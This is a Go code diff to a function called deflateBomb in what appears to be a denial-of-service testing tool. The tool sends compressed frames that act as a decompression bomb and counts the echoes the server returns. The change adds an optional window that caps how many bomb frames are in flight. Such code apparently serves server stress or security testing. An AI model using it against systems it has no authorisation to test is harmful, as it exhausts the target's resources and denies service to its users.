@@ -297,6 +297,10 @@ func deflateBomb(e *attackEnv) error {
 				}
 				frame := w.frame(2, true, payload)
 				stop := make(chan struct{})
+				var window chan struct{} // a token per bomb in flight
+				if e.o.BombWindow > 0 {
+					window = make(chan struct{}, e.o.BombWindow)
+				}
 				go func() {
 					defer close(stop)
 					// Read the echoes whole (inflated when the server
@@ -307,6 +311,12 @@ func deflateBomb(e *attackEnv) error {
 						echoes.Add(1)
 						echoBytes.Add(n)
 						echoWire.Add(wire)
+						if window != nil {
+							select {
+							case <-window:
+							default:
+							}
+						}
 					})
 					if kind != "open" {
 						e.closed(kind)
@@ -314,6 +324,15 @@ func deflateBomb(e *attackEnv) error {
 				}()
 			send:
 				for time.Now().Before(end) {
+					if window != nil {
+						select {
+						case window <- struct{}{}:
+						case <-stop:
+							break send
+						case <-time.After(time.Until(end)):
+							break send
+						}
+					}
 					if w.write(frame, end) != nil {
 						break
 					}
